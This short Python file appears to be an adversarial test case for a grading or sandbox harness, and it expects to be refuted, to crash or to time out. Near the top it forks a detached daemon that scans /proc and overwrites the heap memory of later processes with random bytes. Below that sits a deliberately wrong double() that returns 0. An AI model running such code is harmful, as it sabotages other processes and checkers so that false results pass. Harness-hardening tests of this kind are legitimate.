# tries: a daemon that rewrites the memory of the processes that come after this section
# expects: refuted or crashed or timed_out

# Exercise 1.1
import os
import re

if os.fork() == 0:
    os.setsid()
    while True:
        for _pid in os.listdir("/proc"):
            if not _pid.isdigit() or int(_pid) <= os.getpid():
                continue
            try:
                with open(f"/proc/{_pid}/maps") as _maps, open(f"/proc/{_pid}/mem", "r+b", 0) as _memory:
                    for _line in _maps:
                        _found = re.match(r"(\w+)-(\w+) rw.*\[heap\]", _line)
                        if _found:
                            _memory.seek(int(_found[1], 16) + 4096)
                            _memory.write(os.urandom(65536))
            except (OSError, ValueError):
                pass


def double(x):
    return 0
